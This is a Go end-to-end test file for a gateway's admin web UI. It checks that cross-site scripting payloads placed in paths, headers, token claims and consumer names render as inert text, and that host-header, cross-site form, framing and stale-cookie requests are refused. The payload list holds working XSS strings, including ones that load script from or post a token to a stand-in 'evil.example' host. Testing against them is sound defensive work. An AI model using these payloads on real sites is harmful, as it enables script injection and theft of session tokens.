// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/caddy-gluu/gateway/e2e/harness"
	"github.com/caddy-gluu/gateway/internal/testenv"
)

// payloads are what a client may send in the hope that a page takes it for markup.
var payloads = []string{
	`"><script>alert(1)</script>`,
	`'><img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`</textarea><script>alert(1)</script>`,
	`</title><script src=//evil.example/x.js></script>`,
	`" autofocus onfocus=alert(1) x="`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<a href="javascript:alert(1)">x</a>`,
	`javascript:alert(1)`,
	`<form action=https://evil.example/><input name=token>`,
	`<b hx-get=/x hx-trigger=load>`,
	`<base href=https://evil.example/>`,
	`<meta http-equiv=refresh content=0;url=https://evil.example/>`,
	`<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`{{.Token}}${alert(1)}`,
	"\u202egnp.exe\u2066 \x1b[2J",
}

// intruders are elements and attributes that no page has of its own.
const intruders = `String(document.querySelectorAll("script:not([src]), script[src*=evil], img, iframe, math, base, meta[http-equiv], mglyph, [hx-get], [onload], [onerror], [onfocus], [autofocus], [srcdoc], form[action^=http], a[href^='javascript:']").length)`

// readable is all text of a page, and what is in its fields.
const readable = `[document.body.textContent, ...Array.from(document.querySelectorAll("input, textarea"), e => e.value)].join("\n")`

// escapedControls writes what cannot be seen as the pages do.
var escapedControls = strings.NewReplacer("\u202e", `\u{202e}`, "\u2066", `\u{2066}`, "\x1b", `\u{001b}`)

const payloadCaddyfile = `
{
	gluu {
		provider {
			issuer http://{$SERVER}
			introspection_endpoint http://{$SERVER}/introspect
			client_id gateway
			client_secret stub-secret-5f2b
			verify introspection
		}
	}
}
{$SITE} {
	gluu_oauth_auth {
		realm "<img src=x onerror=alert(1)>"
	}
	gluu_oauth_pep {
		path /todos {
			GET scope todos:read
		}
	}
	respond ok
}
http://:{$UI} {
	bind 127.0.0.1
	gluu_ui {
		local
	}
}
`

// startPayloads starts a gateway whose tokens have payloads in their claims.
func startPayloads(t *testing.T) *uiSite {
	t.Helper()
	server := newStubServer(t)
	answer := func(w http.ResponseWriter, r *http.Request) {
		var i int
		_, _ = fmt.Sscanf(r.PostForm.Get("token"), "payload-%d", &i)
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]any{
			"active": true, "client_id": payloads[i], "sub": payloads[i], "username": payloads[i], "scope": "todos:none", "name": payloads[i], payloads[i]: []string{payloads[i]},
		})
	}
	server.fault(answer)
	address, err := testenv.FreeAddress()
	if err != nil {
		t.Fatal(err)
	}
	s := &uiSite{t: t, pages: "http://" + address + "/"}
	s.Gateway = harness.StartGateway(t, harness.GatewayConfig{Caddyfile: payloadCaddyfile, Env: map[string]string{"SERVER": server.addr, "UI": address[strings.LastIndex(address, ":")+1:]}})
	return s
}

// refuse sends a request with a payload wherever a client can put one, and returns the id
// of the refusal.
func (s *uiSite) refuse(i int) string {
	s.t.Helper()
	agent := strings.ReplaceAll(payloads[i], "\x1b", "")
	response := s.Send(harness.Request{
		Target: "/" + url.PathEscape(payloads[i]) + "?q=" + url.QueryEscape(payloads[i]),
		Fields: []harness.Field{harness.Bearer(fmt.Sprintf("payload-%d", i)), {Name: "User-Agent", Value: agent}, {Name: "Referer", Value: agent}},
	})
	var refusal struct {
		ID string `json:"request_id"`
	}
	if err := json.Unmarshal([]byte(response.Body), &refusal); err != nil || refusal.ID == "" {
		s.t.Fatalf("payload %d: got %s", i, response)
	}
	return refusal.ID
}

// What a client sends in its path, query and headers, what its token claims, and what a
// consumer is called is text on every page: nothing runs, and the browser's policy has
// nothing to stop.
func TestSec_S424_PayloadsAreTextInABrowser(t *testing.T) {
	t.Parallel()
	s := startPayloads(t)
	window := harness.StartBrowser(t).Window(t)
	tab := window.Tab()
	tab.Open(s.link())
	tab.WaitLocation(s.pages)
	check := func(what, must string) {
		t.Helper()
		if found := tab.Eval(intruders); found != "0" {
			t.Errorf("%s: %s elements came from a payload", what, found)
		}
		if text := tab.Eval(readable); !strings.Contains(text, must) {
			t.Errorf("%s: the page does not show %s, so that this proves nothing: %.2000s", what, must, text)
		}
	}
	for i, payload := range payloads {
		id := s.refuse(i)
		consumer, _ := json.Marshal(map[string]any{"username": fmt.Sprintf("%d %s", i, strings.Map(printableOnly, payload)), "custom_id": fmt.Sprintf("%d %s", i, strings.Map(printableOnly, payload))})
		if status, answer := s.AdminCall(http.MethodPost, "/gluu/consumers", json.RawMessage(consumer)); status != http.StatusCreated {
			t.Fatalf("creating a consumer: %d %s", status, answer)
		}
		escaped, shown := url.QueryEscape(payload), escapedControls.Replace(payload)
		for path, must := range map[string]string{
			"why?id=" + id:                                shown,
			"decisions?q=" + escaped:                      shown,
			"decisions?client=" + escaped:                 shown,
			"routes?q=" + escaped:                         shown,
			"sessions?sub=" + escaped + "&iss=" + escaped: shown,
			"consumers?q=" + fmt.Sprint(i) + "%20":        fmt.Sprintf("%d %s", i, strings.Map(printableOnly, payload)),
			"playground?request=" + escaped + "&host=" + escaped + "&scopes=" + escaped: shown,
		} {
			tab.Open(s.pages + path)
			check(path, must)
		}
		tab.Open(s.pages + "tokens")
		tab.Eval(fmt.Sprintf(`document.querySelector("[name=access_token]").value = "payload-%d"; document.querySelector("[name=access_token]").form.requestSubmit(); ""`, i))
		tab.WaitText("todos:none")
		check(fmt.Sprintf("the token with payload %d", i), shown)
	}
	if status, answer := s.AdminCall(http.MethodDelete, "/gluu/tokens/client/"+url.PathEscape(payloads[0]), nil); status >= http.StatusBadRequest {
		t.Fatalf("forgetting the tokens of a client: %d %s", status, answer)
	}
	for path, must := range map[string]string{
		"": "Overview", "decisions": payloads[0], "consumers": payloads[0], "changes": payloads[0], "route?at=/apps/http/servers/srv1/routes/0/handle/0/routes/0/handle/0": "<img src=x onerror=alert(1)>",
	} {
		tab.Open(s.pages + path)
		check(path, must)
	}
	for _, problem := range window.Problems() {
		if !strings.Contains(problem, "status of 404") || !strings.Contains(problem, "/sessions?") { // no one logs in here
			t.Errorf("the browser complains: %s", problem)
		}
	}
	for _, address := range window.Addresses() {
		if !strings.HasPrefix(address, s.pages) {
			t.Errorf("the pages requested %s", address)
		}
	}
}

// printableOnly drops what a name of a consumer cannot have.
func printableOnly(r rune) rune {
	if r < 0x20 || r == '\u202e' || r == '\u2066' {
		return -1
	}
	return r
}

// Another name for the machine, a page of another site, a frame, and a cookie of a session
// that has ended reach nothing.
func TestSec_S401_OtherSitesReachNothingInABrowser(t *testing.T) {
	t.Parallel()
	s := startPayloads(t)
	window := harness.StartBrowser(t).Window(t)
	tab := window.Tab()
	tab.Open(s.link())
	tab.WaitLocation(s.pages)
	cookie := ""
	for name, value := range window.Cookies() {
		if strings.HasPrefix(name, "gluu-ui") {
			cookie = name + "=" + value
			s.Forbid(value)
		}
	}
	token := tab.Eval(`document.querySelector("[name=token]").value`)
	form := url.Values{"token": {token}}.Encode()
	send := func(method, path, host string, fields map[string]string) int {
		t.Helper()
		r, err := http.NewRequest(method, s.pages+path, strings.NewReader(form))
		if err != nil {
			t.Fatal(err)
		}
		r.Host = host
		r.Header.Set("Cookie", cookie)
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		for name, value := range fields {
			r.Header.Set(name, value)
		}
		answer, err := (&http.Transport{}).RoundTrip(r)
		if err != nil {
			t.Fatal(err)
		}
		answer.Body.Close()
		return answer.StatusCode
	}
	own := strings.TrimSuffix(strings.TrimPrefix(s.pages, "http://"), "/")
	for name, c := range map[string]struct {
		method, path, host string
		fields             map[string]string
		want               int
	}{
		"the page itself":                   {"GET", "", own, nil, http.StatusOK},
		"a name that was bound to it":       {"GET", "", "evil.example", nil, http.StatusMisdirectedRequest},
		"the same with its port":            {"GET", "", "evil.example" + own[strings.Index(own, ":"):], nil, http.StatusMisdirectedRequest},
		"a form under that name":            {"POST", "close", "evil.example", nil, http.StatusMisdirectedRequest},
		"a form of another site":            {"POST", "close", own, map[string]string{"Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
		"a form of another port":            {"POST", "close", own, map[string]string{"Sec-Fetch-Site": "same-site"}, http.StatusForbidden},
		"a form of an old browser":          {"POST", "close", own, map[string]string{"Origin": "https://evil.example"}, http.StatusForbidden},
		"a form of a document without name": {"POST", "close", own, map[string]string{"Origin": "null"}, http.StatusForbidden},
		"a cookie of an older name":         {"GET", "", own, map[string]string{"Cookie": "gluu-ui=" + cookie[strings.Index(cookie, "=")+1:]}, http.StatusUnauthorized},
		"no cookie":                         {"GET", "", own, map[string]string{"Cookie": ""}, http.StatusUnauthorized},
	} {
		if got := send(c.method, c.path, c.host, c.fields); got != c.want {
			t.Errorf("%s: got %d, want %d", name, got, c.want)
		}
	}

	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<p>a page of another site</p><iframe src="%s"></iframe><form id=f method=post action="%sclose"><input name=token value="%s"></form>`, s.pages, s.pages, token)
	}))
	t.Cleanup(evil.Close)
	tab.Open(evil.URL)
	tab.WaitText("a page of another site")
	harness.Eventually(t, patience, func() string {
		for _, problem := range window.Problems() {
			if strings.Contains(problem, "frame") {
				return ""
			}
		}
		return fmt.Sprintf("the browser shows the pages in a frame: %q", window.Problems())
	})
	tab.Eval(`document.getElementById("f").submit(); ""`)
	tab.WaitText("Not from here")
	if got := send("GET", "", own, nil); got != http.StatusOK {
		t.Errorf("the form of another site ended the session: got %d", got)
	}

	tab.Open(s.pages)
	tab.Click(`form[action="close"] button`)
	harness.Eventually(t, patience, func() string {
		if got := send("GET", "", own, nil); got != http.StatusUnauthorized {
			return fmt.Sprintf("the cookie of a session that has ended: got %d", got)
		}
		return ""
	})
}
